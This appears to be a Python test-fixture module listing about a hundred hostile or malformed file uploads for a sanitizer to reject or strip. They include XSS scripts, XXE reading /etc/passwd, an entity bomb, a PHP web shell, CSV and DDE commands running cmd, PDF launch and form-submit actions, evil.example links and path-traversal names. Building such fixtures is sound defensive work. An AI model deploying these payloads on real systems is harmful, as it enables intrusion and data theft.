"""A hundred files that somebody means harm with, or that break what reads them.

Each is what the browser sends: a name and its bytes. ``TAKEN`` are those that hold nothing
harmful once their names, their remarks and what follows their end are gone.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
from collections.abc import Callable
from functools import cache

from tests.kernel.files.samples import (
    PDF,
    box,
    chunk,
    content_types,
    excel,
    jpeg,
    mp4,
    packed,
    png,
    segment,
    word,
)

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><r>&d;</r>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
SCRIPT = b"<script>alert(document.cookie)</script>"
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
RELATIONS = b'<Relationships><Relationship Type="http://x/relationships/%s" Target="http://evil.example/a" TargetMode="External"/></Relationships>'  # noqa: E501


def _pdf(inside: bytes) -> bytes:
    return PDF.replace(b"/Catalog", b"/Catalog " + inside)


def _tar() -> bytes:
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../evil"))
    return whole.getvalue()


def _patched(
    content: bytes, mark: bytes, offset: int, change: bytes, *, last: bool = True
) -> bytes:
    """A ZIP with some bytes of its last (or first) such record changed."""
    at = (content.rindex(mark) if last else content.index(mark)) + offset
    return content[:at] + change + content[at + len(change) :]


DIRECTORY = b"PK\x01\x02"


def _twice_named() -> bytes:
    return packed({"[Content_Types].xml": content_types(), "word/document.xml": b"<a/>",
                   "WORD/document.xml": b"<b/>"})  # fmt: skip


@cache
def _many_parts() -> bytes:
    return word({f"word/media/{number}.xml": b"" for number in range(2001)})


@cache
def _large() -> bytes:
    parts = {f"word/{number}.xml": bytes(8 * 2**20) for number in range(8)}
    main = {"[Content_Types].xml": content_types(), "word/document.xml": b"<w:document/>"}
    return packed({**main, **parts}, level=1)


def _overlapping() -> bytes:
    """Two entries of the directory that point at the same packed bytes."""
    content = packed(
        {"[Content_Types].xml": content_types(), "word/document.xml": bytes(10**6), "x.xml": b"x"},
        method=zipfile.ZIP_STORED,
    )
    first = content.index(b"PK\x03\x04", 10)
    return _patched(content, DIRECTORY, 42, struct.pack("<I", first))


def _town_sized() -> bytes:
    return jpeg(segment(0xC0, struct.pack(">BHHB", 8, 65535, 65535, 1) + b"\x01\x11\0"))


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # What it is not
    "a web page as PDF": ("certificate.pdf", lambda: PAGE),
    "a web page as a photo": ("photo.jpg", lambda: PAGE),
    "a web page as text": ("note.txt", lambda: PAGE),
    "a script within text": ("note.txt", lambda: b"Dear council, " + SCRIPT),
    "a script's address within text": ("note.txt", lambda: b"javascript:alert(1)"),
    "a drawing with a script": ("logo.svg", lambda: SVG),
    "a drawing as PNG": ("logo.png", lambda: SVG),
    "a drawing as text": ("logo.txt", lambda: SVG),
    "XML that laughs": ("data.xml", lambda: LAUGHS),
    "XML from outside as text": ("data.txt", lambda: OUTSIDE),
    "JavaScript as PDF": ("certificate.pdf", lambda: b"fetch('//evil.example')"),
    "PHP as a photo": ("photo.jpg", lambda: b"<?php system($_GET['c']); ?>"),
    "a Windows program as PDF": ("certificate.pdf", lambda: b"MZ\x90\0" + bytes(200)),
    "a Linux program": ("setup.pdf", lambda: b"\x7fELF" + bytes(200)),
    "a Java class": ("a.pdf", lambda: b"\xca\xfe\xba\xbe" + bytes(50)),
    "WebAssembly": ("a.png", lambda: b"\0asm\x01\0\0\0"),
    "a shortcut": ("letter.pdf.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(60)),
    "an Internet shortcut": ("letter.url", lambda: b"[InternetShortcut]\nURL=file://evil/x"),
    "a batch file": ("run.bat", lambda: b"@echo off\ndel *"),
    "rich text": ("letter.rtf", lambda: b"{\\rtf1\\object}"),
    "a calendar entry": ("meet.ics", lambda: b"BEGIN:VCALENDAR"),
    "a saved e-mail": ("mail.eml", lambda: b"From: a@b.example\n\n" + PAGE),
    "an archived page": ("page.mht", lambda: b"MIME-Version: 1.0\n\n" + PAGE),
    "a GIF": ("dot.gif", lambda: GIF),
    "a GIF that is JavaScript": ("dot.png", lambda: b"GIF89a=1/*" + GIF + b"*/;alert(1)"),
    "a bitmap": ("dot.bmp", lambda: b"BM" + bytes(60)),
    "a TIFF": ("dot.tif", lambda: b"II*\0" + bytes(60)),
    "a WebP": ("dot.webp", lambda: b"RIFF\x10\0\0\0WEBPVP8 "),
    "a HEIC": ("dot.heic", lambda: box(b"ftyp", b"heic\0\0\0\0mif1heic")),
    "Flash": ("film.mp4", lambda: b"CWS\x0a" + bytes(50)),
    "a plain ZIP": ("papers.zip", lambda: packed({"a.pdf": PDF})),
    "a ZIP as Word": ("policy.docx", lambda: packed({"a.pdf": PDF})),
    "a Java archive": ("a.docx", lambda: packed({"META-INF/MANIFEST.MF": b"Main-Class: X"})),
    "GZIP": ("a.pdf", lambda: gzip.compress(PDF)),
    "a tar with a way out": ("a.tar", _tar),
    "RAR": ("a.rar", lambda: b"Rar!\x1a\x07\0" + bytes(50)),
    "7-Zip": ("a.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50)),
    "old Office": ("macro.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "a table with formulas": ("rows.csv", lambda: b"=cmd|'/c calc'!A0,@SUM(1),+1,-1\n"),
    "a table that is a page": ("rows.csv", lambda: PAGE),
    "nothing": ("certificate.pdf", lambda: b""),
    "one byte": ("certificate.pdf", lambda: b"%"),
    "zeros": ("certificate.pdf", lambda: bytes(5000)),
    "text in UTF-16": ("note.txt", lambda: "hello".encode("utf-16")),
    "text with control characters": ("note.txt", lambda: b"a\x1b]0;evil\x07b"),
    "text that is not Unicode": ("note.txt", lambda: b"caf\xe9 \x81\xff"),
    # PDF
    "a PDF's first line": ("a.pdf", lambda: b"%PDF-1.7\n"),
    "half a PDF": ("a.pdf", lambda: PDF[:30]),
    "a PDF of no version": ("a.pdf", lambda: PDF.replace(b"1.7", b"9;alert(1)")),
    "a PDF after a page": ("a.pdf", lambda: PAGE + PDF),
    "a PDF with a script": ("a.pdf", lambda: _pdf(b"/OpenAction <</S /JavaScript /JS (x)>>")),
    "a PDF with a hidden script": ("a.pdf", lambda: _pdf(b"/OpenAction <</S /J#61v#61Script>>")),
    "a PDF that starts a program": ("a.pdf", lambda: _pdf(b"/AA <</S /Launch /F (cmd.exe)>>")),
    "a PDF with a file inside": ("a.pdf", lambda: _pdf(b"/Names <</EmbeddedFiles 2 0 R>>")),
    "a PDF that sends its form": ("a.pdf", lambda: _pdf(b"/S /SubmitForm /F (//evil)")),
    "a PDF that is a ZIP": ("a.pdf", lambda: PDF + packed({"x": b"y"}) + b"\nstartxref\n9\n%%EOF"),
    # Pictures
    "half a JPEG": ("a.jpg", lambda: jpeg()[:40]),
    "a JPEG's first bytes": ("a.jpg", lambda: b"\xff\xd8\xff"),
    "a JPEG without a picture": ("a.jpg", lambda: b"\xff\xd8\xff\xd9" + bytes(9)),
    "a JPEG with a wrong length": ("a.jpg", lambda: b"\xff\xd8\xff\xe1\xff\xff" + bytes(99)),
    "a JPEG with no length": ("a.jpg", lambda: b"\xff\xd8\xff\xe1\0\0" + bytes(99)),
    "a JPEG as large as a town": ("a.jpg", _town_sized),
    "half a PNG": ("a.png", lambda: png()[:-20]),
    "a PNG with a wrong sum": ("a.png", lambda: png()[:-1] + b"\0"),
    "a PNG that begins late": ("a.png", lambda: png()[:8] + chunk(b"tEXt", b"x") + png()[8:]),
    "a PNG of a wide desert": ("a.png", lambda: png(width=2**31 - 1)),
    "a PNG with a long chunk": ("a.png", lambda: png()[:8] + b"\xff\xff\xff\xffIHDR" + bytes(20)),
    "a JPEG that is a ZIP": ("a.jpg", lambda: jpeg(after=packed({"x.html": PAGE}))),
    "a JPEG with a program": ("a.jpg", lambda: jpeg(segment(0xFE, b"<?php x ?>" + SCRIPT))),
    "a PNG with a script": ("a.png", lambda: png(chunk(b"tEXt", SCRIPT), after=PAGE)),
    # Office
    "Word with macros": ("a.docx", lambda: word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "Word that says so": (
        "a.docm",
        lambda: word(
            {
                "[Content_Types].xml": content_types(
                    "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            }
        ),
    ),
    "Excel with a macro sheet": ("a.xlsx", lambda: excel({"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "Word with a control": ("a.docx", lambda: word({"word/activeX/activeX1.xml": b"<x/>"})),
    "Word with a program": ("a.docx", lambda: word({"word/media/image1.png": b"MZ\x90\0"})),
    "Word with an object": ("a.docx", lambda: word({"word/embeddings/oleObject1.bin": b"x"})),
    "Word with a template outside": (
        "a.docx",
        lambda: word({"word/_rels/settings.xml.rels": RELATIONS % b"attachedTemplate"}),
    ),
    "Word with a frame outside": (
        "a.docx",
        lambda: word({"word/_rels/document.xml.rels": RELATIONS % b"frame"}),
    ),
    "Word with a command": (
        "a.docx",
        lambda: word({"word/document.xml": b"<w:instrText> DDEAUTO c:\\cmd.exe </w:instrText>"}),
    ),
    "Excel with data outside": ("a.xlsx", lambda: excel({"xl/externalLinks/a.xml": b"<x/>"})),
    "Excel with a page": ("a.xlsx", lambda: excel({"xl/page.html": PAGE})),
    "Word that laughs": ("a.docx", lambda: word({"word/document.xml": LAUGHS})),
    "Excel that laughs": ("a.xlsx", lambda: excel({"xl/worksheets/sheet1.xml": LAUGHS})),
    "Excel from outside": ("a.xlsx", lambda: excel({"xl/sharedStrings.xml": OUTSIDE})),
    "Excel from outside in UTF-16": (
        "a.xlsx",
        lambda: excel({"xl/workbook.xml": OUTSIDE.decode().encode("utf-16")}),
    ),
    "Word with a way out": ("a.docx", lambda: word({"word/../../../etc/cron.d/x": b"x"})),
    "Word with a Windows way out": ("a.docx", lambda: word({"word\\..\\..\\x": b"x"})),
    "Word with an absolute part": ("a.docx", lambda: word({"/etc/passwd": b"x"})),
    "Word with a part twice": ("a.docx", _twice_named),
    "Word of 2,001 parts": ("a.docx", _many_parts),
    "Word of 64 MB": ("a.docx", _large),
    "Word that swells": ("a.docx", lambda: word({"word/document.xml": bytes(3 * 2**20)})),
    "Word within Word": ("a.docx", lambda: word({"word/media/a.png": word()})),
    "Word that lies of its size": (
        "a.docx",
        lambda: _patched(word({"word/x.xml": bytes(9000)}), DIRECTORY, 24, struct.pack("<I", 10)),
    ),
    "Word with overlapping parts": ("a.docx", _overlapping),
    "Word with a password": ("a.docx", lambda: _patched(word(), DIRECTORY, 8, b"\x01")),
    "Word packed unheard of": ("a.docx", lambda: _patched(word(), DIRECTORY, 10, b"\x63")),
    "half a Word file": ("a.docx", lambda: word()[:200]),
    "Word after a program": ("a.docx", lambda: b"PK\x03\x04" + bytes(40) + word()),
    "Word before a page": ("a.docx", lambda: word() + PAGE),
    # Recordings
    "a recording's first box": ("a.mp4", lambda: box(b"ftyp", b"mp42" + bytes(4))),
    "a recording of wrong lengths": ("a.mp4", lambda: mp4()[:24] + b"\xff\xff\xff\xff" + mp4()),
    "a recording of 6,000 boxes": ("a.mp4", lambda: mp4() + box(b"free", b"") * 6000),
    "a title without sound": ("a.mp3", lambda: b"ID3\x03\0\0\x7f\x7f\x7f\x7f" + SCRIPT),
    # Names
    "a way out in its name": ("../../../var/www/index.php\0.pdf", lambda: PDF),
    "a second ending": ("certificate.pdf.exe", lambda: PDF),
    "a name read backwards": ("certi\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe", lambda: PDF),
    "a name of 5,000 letters": ("n" * 5000 + ".pdf", lambda: PDF),
    "a name that is markup": ("<img src=x onerror=alert(1)>.pdf", lambda: PDF),
    "a name with a header in it": (
        "a%22%0D%0AContent-Type: text/html%0D%0A%0D%0A<b>.pdf",
        lambda: PDF,
    ),
    "a device's name": ("NUL.pdf", lambda: PDF),
}
TAKEN = frozenset(
    {
        "a JPEG that is a ZIP", "a JPEG with a program", "a PNG with a script",
        "a way out in its name", "a second ending", "a name read backwards",
        "a name of 5,000 letters", "a name that is markup", "a name with a header in it",
        "a device's name",
    }
)  # fmt: skip
